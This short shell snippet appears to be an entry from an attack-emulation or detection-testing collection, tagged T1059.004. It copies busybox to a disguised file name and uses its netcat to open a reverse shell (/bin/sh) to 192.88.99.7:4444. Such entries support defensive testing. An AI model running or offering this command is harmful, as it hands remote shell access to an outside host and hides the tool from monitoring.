# title: busybox's netcat runs a shell, under another name
# technique: T1059.004
# needs: busybox

cp /bin/busybox /var/tmp/busybox-upd
timeout 5 /var/tmp/busybox-upd nc 192.88.99.7 4444 -e /bin/sh
